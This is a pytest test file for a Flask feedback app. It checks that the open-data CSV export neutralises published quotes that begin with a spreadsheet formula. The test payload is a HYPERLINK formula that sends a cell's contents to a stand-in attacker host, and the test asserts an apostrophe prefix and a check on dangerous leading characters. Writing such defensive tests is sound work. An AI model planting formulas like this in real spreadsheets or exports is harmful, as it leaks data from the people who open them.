"""The open-data CSV never hands a spreadsheet a formula from a published quote."""

from __future__ import annotations

import csv
import io

from flask.testing import FlaskClient

from feedback_app.services import releases, releases_quotes

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for your results")'


def test_a_quote_starting_with_a_formula_is_written_as_text(client: FlaskClient, factories) -> None:
    factories.add_responses(10, {"involved": "agree", "contact": "agree"})
    factories.add_responses(6, {"involved": "disagree", "contact": "agree"})
    comment = factories.add_comment(FORMULA)
    release = releases.create_draft("new_ehcp", "2023-24", None)
    quote = releases_quotes.propose_quote(release, comment.id, None)
    releases_quotes.approve_quote(release, quote.id, comment.redacted, None)
    releases.publish(release, None)

    body = client.get("/findings/new_ehcp/2023-24.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    quotes = [r["value"] for r in rows if r["section"] == "quote"]
    assert quotes == ["'" + FORMULA]
    assert not any(
        cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r.values()
    )
    # Figures are still plain numbers.
    responses = next(r for r in rows if (r["section"], r["measure"]) == ("responses", "count"))
    assert responses["value"] == "16"
